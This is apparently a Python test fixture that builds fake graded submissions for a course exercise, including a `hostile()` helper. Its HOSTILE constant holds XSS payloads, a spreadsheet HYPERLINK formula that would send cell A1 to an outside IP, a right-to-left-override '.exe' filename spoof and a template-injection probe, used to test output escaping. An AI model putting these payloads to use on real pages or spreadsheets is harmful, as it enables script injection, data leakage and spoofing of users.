"""A class that never was: results for the real key of exercise 03, some with hostile names and texts."""

import json
import random
from pathlib import Path

from mlm.exercises.compare import judge
from mlm.exercises.notebooks import exercise_notebook
from mlm.grading.judge.questions import asked
from mlm.grading.model import Answer, Result

ROOT = Path(__file__).parents[3]
EXERCISE = "03-basics"
QUESTIONS = json.loads((ROOT / f"exercises/keys/{EXERCISE}.json").read_text(encoding="utf8"))["questions"]
SOLUTION = ROOT / f"solutions/{EXERCISE}.md"
ASKED = asked(EXERCISE, QUESTIONS, exercise_notebook(SOLUTION), ROOT / "book")

ATTACK = '<script>document.title="pwned"</script><img src=x onerror=\'document.title="pwned"\'>'
FORMULA = '=HYPERLINK("http://203.0.113.9/?"&A1,"grade")'
OVERRIDE = "Alice\u202egpj.exe\u2066"
HUGE = "A" * 1_000_000
BREAKING = "</pre></textarea></style><svg/onload=document.title='pwned'>\x00\x1b[2J\u2028{{ 7*7 }}"
HOSTILE = (ATTACK, FORMULA, OVERRIDE, HUGE, BREAKING, "\ud800 lone", "Z" + "\u0301" * 200)
REPORT = (
    "We studied 463 ratings of 94 professors. About 46 % of the variation goes with who teaches.\n\n"
    "Professors with few courses have means that mislead, so we drew each towards the general mean. "
) * 4


def result(learner: str, seed: int = 1, skill: float = 0.6, **settings) -> Result:
    """A submission whose answers are right, known mistakes, wrong, missing and so on, as the seed says."""
    draw = random.Random(seed)
    defaults = {"submission": f"{learner[:40]}/{EXERCISE}.ipynb", "slug": f"s{seed}", "status": "graded"}
    answers = [_answer(question, draw, skill) for question in QUESTIONS]
    return Result(learner=learner, answers=answers, **(defaults | settings))


def _answer(question: dict, draw: random.Random, skill: float) -> Answer:
    name, possible = question["name"], question["points"]
    if question["kind"] == "write":
        text = REPORT + f"We advise against a top {draw.randint(5, 99)}."
        return Answer(name, "written", message="130 words.", possible=possible, text=text)
    luck = draw.random()
    if luck < skill:
        return _judged(question, question["value"], "right", possible)
    if luck < skill + 0.2 and question["mistakes"]:
        mistake = draw.choice(question["mistakes"][:3])
        return _judged(question, mistake["value"], "the mistake", possible)
    if luck < skill + 0.28:
        return _judged(question, {"kind": "text", "value": "many"}, "'many'", possible)
    if luck < skill + 0.33:
        return Answer(
            name, "hard-coded", message="Right for the public data only.", possible=possible, shown="48"
        )
    if luck < skill + 0.38:
        return Answer(name, "unanswered", message="Not answered yet.", possible=possible)
    if luck < skill + 0.43:
        return Answer(name, "missing", message="No answer arrived.", possible=possible)
    return _judged(question, {"kind": "number", "value": 123456.5}, "123456.5", possible)


def _judged(question: dict, value: dict, shown: str, possible: float) -> Answer:
    verdict = judge(value, question)
    said = (verdict.status, verdict.mistake, verdict.message, verdict.points)
    return Answer(question["name"], *said, possible=possible, shown=shown)


def hostile(text: str, seed: int = 7) -> Result:
    """A submission in which everything that a learner can write is this text."""
    plain = result("x", seed)
    answers = [
        Answer(
            a.name, a.status, a.mistake, f"Expected a number, found {text}", a.points, a.possible, text, ""
        )
        for a in plain.answers[:-1]
    ]
    answers.append(Answer("report", "written", message=text, possible=10, shown=text, text=text))
    return Result(
        submission=f"{text}/03.ipynb",
        learner=text,
        slug=f"hostile-{seed}",
        status="partly",
        detail=text,
        flags=[text],
        answers=answers,
        errors=[(14, f"NameError: {text}"), (15, text)],
        ids={"canvas": text, "sid": text, "email": text, "section": text},
    )


def class_of(size: int = 24) -> list[Result]:
    """A class of learners of different skill, one file that could not be read and one with failing cells."""
    names = ["Ana Costa", "Ben O’Neil", "Chloé Dubois", "Dmitri Волков", "Ewa Żak", "فاطمة الزهراء", "李小龙"]
    found = [
        result(f"{names[seed % len(names)]} {seed}", seed, skill=0.35 + 0.6 * seed / size)
        for seed in range(size)
    ]
    missing = [
        Answer(q["name"], "missing", message="No answer arrived.", possible=q["points"]) for q in QUESTIONS
    ]
    unread = Result(
        "zoe/notes.pdf", "Zoe Zimmer", "zoe", "unreadable", "It begins with %PDF.", answers=missing
    )
    late = result(
        "Max Late",
        99,
        0.5,
        status="partly",
        flags=["late", "hard-coded: few"],
        errors=[(21, "NameError: mu")],
    )
    return [*found, unread, late]
